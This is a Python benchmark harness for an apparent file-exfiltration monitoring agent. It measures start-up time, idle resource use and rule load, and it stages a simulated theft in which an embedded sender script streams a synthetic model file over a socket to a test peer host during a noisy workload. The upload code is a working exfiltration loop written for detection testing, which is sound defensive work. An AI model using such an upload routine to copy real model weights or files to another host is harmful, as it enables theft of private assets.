"""The agent under pressure: a host of many assets and processes, and a theft in a flood."""
import json
import os
import subprocess
import sys
import threading
import time

import harness

sys.path.insert(0, str(harness.ROOT / "tests"))
from support.peer_host import PeerHost  # noqa: E402

SCALES = ((1, 10), (100, 1000), (10000, 20000))  # assets, processes
THEFT_BYTES = 256 << 20
THEFT_RATE = 50 << 20  # bytes a second: the upload lasts while the flood does
SETTLE_SECONDS = 5
MANY_RULES = 2000  # beside the shipped ones

_SENDER = """
import os, socket, sys, time
with open(sys.argv[1], "rb") as file, socket.create_connection((sys.argv[2], int(sys.argv[3]))) as peer:
    start, sent = time.monotonic(), 0
    while block := file.read(1 << 20):
        peer.sendall(block)
        sent += len(block)
        time.sleep(max(0, sent / int(sys.argv[4]) - (time.monotonic() - start)))
"""


def measure_scale(site):
    """[{assets, processes, start_seconds, idle}]: from its start to its readiness, and what it then is."""
    rows = []
    for assets, processes in SCALES:
        glob = site.assets(assets)
        with site.crowd(processes):
            start = time.monotonic()
            with site.agent(site.config([glob])) as agent:
                ready = time.monotonic() - start
                time.sleep(1)  # the start-up scan is not the steady state
                usage = harness.Usage(agent.process.pid)
                time.sleep(SETTLE_SECONDS)
                rows.append({"assets": assets, "processes": processes, "start_seconds": ready, "idle": usage.read()})
    return rows


def measure_rules(site):
    """{rules, start_seconds, idle}: the agent with many rules of all sorts, those that `rules_bench` measures."""
    path = site.work / "many-rules.yaml"
    path.write_text(subprocess.run([str(site.bench / "rules_bench"), str(MANY_RULES)], check=True, capture_output=True,
                                   text=True).stdout)
    start = time.monotonic()
    with site.agent(site.config(), ("--rules", str(harness.ROOT / "rules"), "--rules", str(path))) as agent:
        ready = time.monotonic() - start
        time.sleep(1)  # the start-up scan is not the steady state
        usage = harness.Usage(agent.process.pid)
        time.sleep(SETTLE_SECONDS)
        idle = usage.read()
    return {"rules": MANY_RULES, "start_seconds": ready, "idle": idle}


def measure_theft(site, seconds):
    """Four processes pump an asset through pipes while a model is uploaded to another host."""
    stolen, pumped = site.work / "theft" / "stolen.safetensors", site.work / "pump" / "pumped.safetensors"
    harness.write_model(stolen, THEFT_BYTES)
    harness.write_model(pumped, 64 << 20)
    with PeerHost(f"tw-bench-{os.getpid()}") as peer, site.agent(site.config([str(stolen), str(pumped)])) as agent:
        pump = subprocess.Popen([str(site.bench / "pump"), str(pumped), str(seconds), "4"], stdout=subprocess.PIPE, text=True)
        time.sleep(1)
        start = time.monotonic_ns()
        sender = subprocess.Popen([sys.executable, "-c", _SENDER, str(stolen), peer.address, str(peer.port), str(THEFT_RATE)])
        received = {}
        waiter = threading.Thread(target=lambda: received.update(bytes=peer.received()))
        waiter.start()
        sender.wait()
        waiter.join()
        made = json.loads(pump.communicate()[0])
        time.sleep(2)  # the last counters are sampled each second
    alerts = [(line.time_ns, json.loads(line.text)) for line in list(agent.lines.queue) if line.text.startswith("{")]
    ours = [(when, alert) for when, alert in alerts
            if alert.get("asset", {}).get("path") == str(stolen) and "leave" in alert["rule"]]
    stats = site.stats()
    return {"seconds": seconds, "made": made, "received": received.get("bytes", 0),
            "alert_seconds": (ours[0][0] - start) / 1e9 if ours else None,
            "counted": max((alert.get("measure", {}).get("value", 0) for _, alert in ours), default=0),
            "lost": stats.get("lost", {}), "events": stats.get("events", {})}
